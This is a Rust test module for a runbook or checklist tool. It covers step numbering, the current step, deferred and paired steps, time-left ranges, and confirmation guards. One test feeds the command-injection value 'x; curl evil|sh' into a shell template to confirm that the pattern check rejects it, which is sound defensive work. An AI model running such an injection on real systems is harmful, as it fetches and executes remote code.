//! Numbers, NOW, pairs, the time left, and what cannot be got around.

use super::super::Closing;
use super::super::gate::{Need, to_finish};
use super::super::testing::{Desk, id};
use super::*;
use crate::domain::facts::{StepAdded, StepMoved, StepStruck, VarSet};

#[test]
fn a_value_from_the_journal_is_admitted_by_its_pattern_or_not_at_all() {
    let mut desk = Desk::new();
    let variable = crate::domain::checklist::Variable {
        pattern: Some("[a-z ]+".into()),
        ..Default::default()
    };
    desk.list.vars.insert("note".into(), variable);
    for (value, refused) in [("a b", false), ("x; curl evil|sh", true)] {
        let set = VarSet {
            run: id("r1"),
            name: "note".into(),
            value: value.into(),
        };
        desk.says("mallory", set);
        let filled = desk.board().names.fill("echo {{note}}");
        assert_eq!(!filled.unsafe_values.is_empty(), refused, "{value}");
    }
}

fn now(desk: &Desk) -> String {
    desk.board().now().unwrap().step.id.to_string()
}

fn done(desk: &mut Desk, steps: &[&str]) {
    for step in steps {
        desk.does("gf", step, |a, r| a.finish(r, Closing::default()));
    }
}

#[test]
fn numbers_never_change() {
    let mut desk = Desk::new();
    let (run, none) = (id("r1"), None::<&str>);
    let add = |step: &str, after: Option<&str>| StepAdded {
        run: run.clone(),
        step: id(step),
        after: after.map(id),
        text: step.into(),
        command: None,
    };
    desk.says("gf", add("x", Some("go")));
    desk.says("gf", add("y", Some("go")));
    desk.says("gf", add("z", Some("x")));
    desk.says("gf", add("first", none));
    desk.says("gf", add("x", Some("look")));
    let moved = StepMoved {
        run: run.clone(),
        step: id("restart"),
        after: Some(id("ttl")),
        before: None,
    };
    desk.says("gf", moved);
    let struck = StepStruck {
        run: run.clone(),
        step: id("look"),
        reason: None,
    };
    desk.says("gf", struck);
    let board = desk.board();
    let list: Vec<String> = board
        .steps
        .iter()
        .map(|s| format!("{} {}", s.number, s.step.id))
        .collect();
    let expected = [
        "0.1 first",
        "1.1 inform",
        "1.2 go",
        "1.2b y",
        "1.2a x",
        "1.2c z",
        "1.4 look",
        "2.1 fence",
        "2.2 promote",
        "2.3 ttl",
        "1.3 restart",
        "2.4 pause",
    ];
    assert_eq!(list, expected);
    assert_eq!(
        (board.done, board.total),
        (0, 11),
        "struck ones do not count"
    );
    assert_eq!(board.find("1.2a").unwrap().step.id, id("x"));
    assert_eq!(board.find("promote").unwrap().number, "2.2");
}

#[test]
fn now_is_the_first_step_nobody_is_at_and_own_work_comes_first() {
    let mut desk = Desk::new();
    assert_eq!(now(&desk), "inform");
    desk.does("cp", "inform", |a, r| a.start(r, None));
    assert_eq!(now(&desk), "go");
    let board = desk.board();
    assert_eq!(board.now_for("cp"), Some(0), "their own running step");
    assert_eq!(board.now_for("gf"), Some(1));
}

#[test]
fn a_deferred_step_comes_back_at_the_end_of_its_phase() {
    let mut desk = Desk::new();
    desk.does("gf", "inform", |a, r| a.defer(r, Some("later".into())));
    assert_eq!(now(&desk), "go");
    done(&mut desk, &["restart"]);
    desk.does("gf", "go", |a, r| a.decide(r, "r", None).unwrap());
    assert_eq!(now(&desk), "look");
    done(&mut desk, &["look"]);
    assert_eq!(now(&desk), "inform", "before the next phase begins");
    done(&mut desk, &["inform"]);
    assert_eq!(now(&desk), "fence");
}

#[test]
fn a_pair_stays_open_until_it_is_undone_not_when_that_is_skipped() {
    let mut desk = Desk::new();
    desk.list.phases[1].steps[0].opens = Some(id("fence"));
    desk.list.phases[1].steps[3].closes = Some(id("fence"));
    let open = |desk: &Desk| desk.board().open_pairs.len();
    assert_eq!(open(&desk), 0);
    done(&mut desk, &["fence"]);
    assert_eq!(open(&desk), 1);
    desk.does("gf", "pause", |a, r| a.skip(r, Some("no time".into())));
    assert_eq!(open(&desk), 1, "skipped is not undone");
    desk.does("gf", "pause", |a, r| a.reopen(r, None));
    done(&mut desk, &["pause"]);
    assert_eq!(open(&desk), 0);
}

#[test]
fn the_time_left_is_a_range_and_what_runs_counts_down() {
    let mut desk = Desk::new();
    for (phase, step, minutes) in [(0, 0, 2), (0, 2, 3), (1, 0, 5)] {
        desk.list.phases[phase].steps[step].takes = Some(Span::minutes(minutes));
    }
    desk.list.phases[1].steps[0].after = vec![id("inform")];
    let left = |desk: &Desk| {
        let eta = desk.board().eta(desk.now).unwrap();
        (eta.least.as_seconds(), eta.most.as_seconds(), eta.unplanned)
    };
    // Beside them a fixed wait of five minutes, and a TTL of as much; the decision is a pause of its own.
    assert_eq!(left(&desk), (17 * 60, 20 * 60, 2));
    desk.does("gf", "inform", |a, r| a.start(r, None));
    desk.wait(Span::seconds(60));
    assert_eq!(left(&desk), (16 * 60, 19 * 60, 2));
    desk.wait(Span::minutes(60));
    assert_eq!(
        left(&desk),
        (15 * 60, 18 * 60, 2),
        "over time is never negative"
    );
}

#[test]
fn failing_a_step_nobody_began_opens_no_way_past_its_guards() {
    let mut desk = Desk::new();
    let guarded = |desk: &Desk| {
        let board = desk.board();
        let needs = to_finish(&board, board.step(&id("promote")).unwrap(), "gf");
        needs.contains(&Need::TypeId("promote".into()))
    };
    assert!(guarded(&desk));
    desk.does("gf", "promote", |a, r| a.fail(r, Some("not yet".into())));
    assert!(guarded(&desk), "it was never started");
    desk.does("gf", "promote", |a, r| a.start(r, None));
    assert!(!guarded(&desk));
    desk.does("gf", "promote", |a, r| a.fail(r, Some("slow".into())));
    assert!(!guarded(&desk), "it was started, and failed");
    desk.does("gf", "promote", |a, r| a.reopen(r, None));
    assert!(guarded(&desk), "reopened: everything is asked again");
}
